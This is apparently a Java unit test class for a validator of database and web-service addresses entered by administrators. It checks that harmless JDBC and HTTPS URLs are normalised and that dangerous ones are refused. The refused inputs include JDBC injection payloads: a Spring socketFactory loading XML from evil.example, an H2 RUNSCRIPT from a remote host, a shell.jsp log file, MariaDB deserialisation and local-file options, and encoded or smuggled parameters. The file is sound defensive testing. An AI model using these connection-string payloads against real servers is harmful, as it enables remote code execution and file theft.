package io.parcours.connector.operatordata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.parcours.account.WrongValue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Addresses as administrators of operators type them. */
class SystemAddressTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    jdbc:postgresql://db.example/crm                      | jdbc:postgresql://db.example:5432/crm
                    jdbc:postgresql://10.1.2.3:6000/crm_1?                | jdbc:postgresql://10.1.2.3:6000/crm_1
                    jdbc:postgresql://[fd00::7]:5433/crm                  | jdbc:postgresql://[fd00::7]:5433/crm
                    jdbc:postgresql://db/crm?sslmode=require&ssl=true     | jdbc:postgresql://db:5432/crm?sslmode=require&ssl=true
                    jdbc:postgresql://db/crm?applicationname=parcours-1   | jdbc:postgresql://db:5432/crm?ApplicationName=parcours-1
                    jdbc:postgresql://db/crm?connectTimeout=3&socketTimeout=20 | jdbc:postgresql://db:5432/crm?connectTimeout=3&socketTimeout=20
                    jdbc:mariadb://db.example/crm                         | jdbc:mariadb://db.example:3306/crm
                    jdbc:mariadb://db:3307/crm?sslMode=verify-full&connectTimeout=1500 | jdbc:mariadb://db:3307/crm?sslMode=verify-full&connectTimeout=1500
                    https://api.example                                   | https://api.example
                    HTTP://api.example:8080/v2/                           | http://api.example:8080/v2
                    """)
    void aServerItsDatabaseAndAFewHarmlessParametersAreTaken(String typed, String opened) {
        assertThat(SystemAddress.of(typed).url()).isEqualTo(opened);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil.example/bean.xml",
                "sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext",
                "sslfactoryarg=x",
                "sslhostnameverifier=x",
                "sslpasswordcallback=x",
                "sslrootcert=/etc/passwd",
                "sslkey=/etc/passwd",
                "authenticationPluginClassName=x",
                "xmlFactoryFactory=x",
                "loggerFile=/tmp/shell.jsp",
                "loggerLevel=DEBUG",
                "options=-c%20role=x",
                "preferQueryMode=simple",
                "currentSchema=public",
                "targetServerType=any",
                "service=other",
                "PGHOST=elsewhere",
                "PGDBNAME=parcours",
                "sslmode=require&socketFactory=x",
                "sslmode=require&&ssl=true",
                "unknown",
                "=",
                "s%6fcketFactory=x"
            })
    void aPostgresqlsParameterThatIsNotHarmlessIsRefused(String parameters) {
        refused("jdbc:postgresql://db/crm?" + parameters, "account.systemParameter");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "autoDeserialize=true",
                "allowLoadLocalInfile=true",
                "allowLocalInfile=true",
                "allowUrlInLocalInfile=true",
                "allowMultiQueries=true",
                "initSql=drop table x",
                "sessionVariables=sql_mode=x",
                "connectionAttributes=x:y",
                "queryInterceptors=x",
                "socketFactory=x",
                "credentialType=x",
                "serverSslCert=/etc/passwd",
                "keyStore=/etc/passwd",
                "trustStore=http://evil.example/x",
                "serverRsaPublicKeyFile=/etc/passwd",
                "localSocket=/run/mysqld/mysqld.sock",
                "pipe=x",
                "allowPublicKeyRetrieval=true",
                "sslMode=trust&LOCALSOCKET=x"
            })
    void aMariaDbsParameterThatIsNotHarmlessIsRefused(String parameters) {
        refused("jdbc:mariadb://db/crm?" + parameters, "account.systemParameter");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sslmode=none",
                "sslmode=require;x=y",
                "ssl",
                "ssl=",
                "connectTimeout=0",
                "socketTimeout=-1",
                "socketTimeout=100000",
                "ApplicationName=a%26socketFactory=x",
                "ssl=true&SSL=false"
            })
    void aParameterThatIsHarmlessHasAHarmlessValueOnce(String parameters) {
        refused("jdbc:postgresql://db/crm?" + parameters, "account.systemParameterValue");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:mysql://db/crm",
                "jdbc:oracle:thin:db:1521:crm",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:POSTGRESQL://db/crm",
                "jdbc:postgresql:crm",
                "jdbc:postgresql:///crm",
                "jdbc:postgresql://db",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://one,two/crm",
                "jdbc:postgresql://one:5432,two:5432/crm",
                "jdbc:postgresql://db:0/crm",
                "jdbc:postgresql://db:70000/crm",
                "jdbc:postgresql://db/crm%3fsocketFactory=x",
                "jdbc:postgresql://db/crm;socketFactory=x",
                "jdbc:postgresql://db/crm#x",
                "jdbc:postgresql://db/crm\n?ssl=true",
                "jdbc:postgresql://db/../parcours",
                "jdbc:mariadb:replication://one,two/crm",
                "jdbc:mariadb://address=(host=db)(port=3306)(localSocket=x)/crm",
                "jdbc:mariadb://db/crm/other",
                "jdbc:mariadb:aurora://db/crm",
                "jdbc:tc:postgresql:///crm",
                "ftp://api.example",
                "file:///etc/passwd",
                "jar:http://evil.example/x.jar!/",
                "api.example",
                "https:///nowhere",
                "https://api.example:0"
            })
    void whatIsNoAddressOfADatabaseOrAWebServiceIsRefused(String typed) {
        refused(typed, "account.systemAddress");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://awa:secret@db/crm",
                "jdbc:postgresql://db/crm?user=awa&password=secret",
                "jdbc:mariadb://db/crm?ssl=true&PASSWORD=secret",
                "https://awa:secret@api.example"
            })
    void aLoginInTheAddressIsRefusedAndNotRepeated(String typed) {
        refused(typed, "account.addressLogin");
    }

    @Test
    void aWebServicesAddressEndsBeforeThePaths() {
        refused("https://api.example?key=secret", "account.systemEnd");
        refused("https://api.example#secret", "account.systemEnd");
        refused("https://api.example/with space", "account.encoded");
    }

    @Test
    void secretsAreForOneServerAndForOneWayToIt() {
        SystemAddress crm = SystemAddress.of("jdbc:postgresql://db/crm");
        assertThat(crm.sameServer(SystemAddress.of("jdbc:postgresql://DB:5432/billing?ssl=true")))
                .isTrue();
        assertThat(crm.sameServer(SystemAddress.of("jdbc:postgresql://db:5433/crm")))
                .isFalse();
        assertThat(crm.sameServer(SystemAddress.of("jdbc:postgresql://db.evil.example/crm")))
                .isFalse();
        assertThat(crm.sameServer(SystemAddress.of("jdbc:mariadb://db:5432/crm")))
                .isFalse();
        assertThat(SystemAddress.of("https://api:443").sameServer(SystemAddress.of("http://api:443")))
                .isFalse();
    }

    private static void refused(String typed, String code) {
        assertThatThrownBy(() -> SystemAddress.of(typed))
                .isInstanceOfSatisfying(
                        WrongValue.class,
                        wrong -> assertThat(wrong.problem().code()).isEqualTo(code))
                .hasMessageNotContainingAny("secret", "evil");
    }
}
